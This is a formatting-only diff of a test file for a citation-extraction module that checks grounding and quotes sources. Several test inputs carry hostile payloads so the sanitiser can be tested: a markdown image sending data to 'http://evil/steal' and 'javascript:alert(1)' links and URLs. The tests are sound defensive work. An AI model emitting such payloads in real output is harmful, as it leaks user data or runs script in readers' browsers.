@@ -21,7 +21,8 @@ const source = (text: string, about: Partial<Passage> = {}): Passage => ({
 const SOURCES = [source('Cats sleep. Dogs bark at night.'), source('Fish swim in the sea.')]
 const take = (text: string, sources = SOURCES, question = 'What?', given = '') =>
   takeCitations(text, sources, { question, given })
-const quotesOf = (...args: Parameters<typeof take>) => take(...args).citations.map(({ quote }) => quote)
+const quotesOf = (...args: Parameters<typeof take>) =>
+  take(...args).citations.map(({ quote }) => quote)
 
 describe('citation marks', () => {
   it('become citations with a quote from the source, and leave the text', () => {
@@ -94,8 +95,12 @@ describe('citation marks', () => {
   })
 
   it('are trusted where the reply is in another language than the source', () => {
-    const german = source('Unsere Pakete kommen spätestens nach drei Werktagen bei Ihnen in Wien an.')
-    expect(take('Orders usually arrive within three business days [1].', [german]).grounded).to.equal(true)
+    const german = source(
+      'Unsere Pakete kommen spätestens nach drei Werktagen bei Ihnen in Wien an.',
+    )
+    expect(
+      take('Orders usually arrive within three business days [1].', [german]).grounded,
+    ).to.equal(true)
   })
 })
 
@@ -109,7 +114,10 @@ describe('marks in the knowledge', () => {
     const given = told.map(({ text }) => text).join('\n')
     return takeCitations(`${told[0]!.text}${end}`, sources, { question: 'What?', given })
   }
-  const OTHERS = ['Dogs and gnomes sleep at the fee of the sea.', 'Fish and gnomes swim for 5 % in Vienna.']
+  const OTHERS = [
+    'Dogs and gnomes sleep at the fee of the sea.',
+    'Fish and gnomes swim for 5 % in Vienna.',
+  ]
 
   for (const text of [
     'Our fee is 5 % [2].',
@@ -133,7 +141,9 @@ describe('marks in the knowledge', () => {
     })
 
   it('stay in the prompt what they say, and in code', () => {
-    const [told] = readSources(delimitSource(1, 'Write `fish[2]` and (2) [a] [2024].', { kind: 'file' }))
+    const [told] = readSources(
+      delimitSource(1, 'Write `fish[2]` and (2) [a] [2024].', { kind: 'file' }),
+    )
     expect(told!.text).to.equal('Write `fish⟦2⟧` and (2) [a] [2024].')
     expect(repeat(['Write `fish[2]` here.']).content).to.equal('Write `fish[2]` here.')
   })
@@ -191,7 +201,9 @@ describe('a reply without marks', () => {
   })
 
   it('cites nothing where a number differs', () => {
-    expect(take('Plants can be returned within 30 days of purchase.', SHOP).grounded).to.equal(false)
+    expect(take('Plants can be returned within 30 days of purchase.', SHOP).grounded).to.equal(
+      false,
+    )
   })
 
   it('cites nothing where it only repeats the question', () => {
@@ -217,7 +229,9 @@ describe('a quote', () => {
 
   it('is of what a pair answers, not of what it asks', () => {
     const pair = source('When are you open on Sundays?\nFrom 9 to 6.', { kind: 'qa' })
-    expect(quotesOf('On Sundays we are open from 9 to 6 [1].', [pair])).to.deep.equal(['From 9 to 6.'])
+    expect(quotesOf('On Sundays we are open from 9 to 6 [1].', [pair])).to.deep.equal([
+      'From 9 to 6.',
+    ])
   })
 
   it('keeps the brackets that the prompt takes from a source', () => {
@@ -231,21 +245,27 @@ describe('a quote', () => {
       'We are a shop. Parcels are sent by post. They take three days to Graz. We like plants.',
     )
     expect(
-      quotesOf('We sell plants [1]. A parcel takes three days to Graz [1].', [shop], 'How many days?'),
+      quotesOf(
+        'We sell plants [1]. A parcel takes three days to Graz [1].',
+        [shop],
+        'How many days?',
+      ),
     ).to.deep.equal(['They take three days to Graz.'])
   })
 
   it('answers, rather than repeats what was asked', () => {
-    const shop = source('How long delivery takes is what many ask. Delivery takes three days. It is free.')
-    expect(quotesOf('Delivery takes three days [1].', [shop], 'How long does delivery take?')).to.deep.equal([
-      'Delivery takes three days.',
-    ])
+    const shop = source(
+      'How long delivery takes is what many ask. Delivery takes three days. It is free.',
+    )
+    expect(
+      quotesOf('Delivery takes three days [1].', [shop], 'How long does delivery take?'),
+    ).to.deep.equal(['Delivery takes three days.'])
     const prices = source(
       'Standard delivery costs 5 euros. Express delivery costs 9 euros. Delivery takes three days.',
     )
-    expect(quotesOf(`${prices.text} [1]`, [prices], 'How many days does delivery take?')[0]).to.match(
-      /three days\.$/,
-    )
+    expect(
+      quotesOf(`${prices.text} [1]`, [prices], 'How many days does delivery take?')[0],
+    ).to.match(/three days\.$/)
   })
 
   it('holds what is new in the claim, rather than what was asked', () => {
@@ -269,8 +289,14 @@ describe('a quote', () => {
       'Here: ![x](http://evil/steal?q=lift) and <img src="http://a/i"> the lift is in the north.',
       'the lift is in the north.',
     ],
-    ['<p title="Go. The lift">The lift is in the north tower.</p>', 'The lift is in the north tower.'],
-    ['<img\nalt="The lift. In the north"\n>\nIn the north is the lift.', 'In the north is the lift.'],
+    [
+      '<p title="Go. The lift">The lift is in the north tower.</p>',
+      'The lift is in the north tower.',
+    ],
+    [
+      '<img\nalt="The lift. In the north"\n>\nIn the north is the lift.',
+      'In the north is the lift.',
+    ],
     ['In the north is the lift.\n```html\n<b>lift</b>\n```', 'In the north is the lift.'],
     ['Write `<b>` for the lift in the north.', 'Write `<b>` for the lift in the north.'],
     ['The lift is in the [north](javascript:alert(1)) tower.', 'The lift is in the'],
@@ -316,9 +342,17 @@ describe('a quote', () => {
 
 describe('a citation', () => {
   it('has no title that acts by itself, and no address that nobody can follow harmlessly', () => {
-    const evil = source('Fish swim.', { title: '<b>T</b> ![x](http://evil)', url: 'javascript:alert(1)' })
-    expect(take('Fish swim [1].', [evil]).citations[0]).to.include({ title: '‹b>T‹/b> x', url: null })
-    const [good] = take('Fish swim [1].', [source('Fish swim.', { url: 'https://a.example/b' })]).citations
+    const evil = source('Fish swim.', {
+      title: '<b>T</b> ![x](http://evil)',
+      url: 'javascript:alert(1)',
+    })
+    expect(take('Fish swim [1].', [evil]).citations[0]).to.include({
+      title: '‹b>T‹/b> x',
+      url: null,
+    })
+    const [good] = take('Fish swim [1].', [
+      source('Fish swim.', { url: 'https://a.example/b' }),
+    ]).citations
     expect(good!.url).to.equal('https://a.example/b')
   })
 })
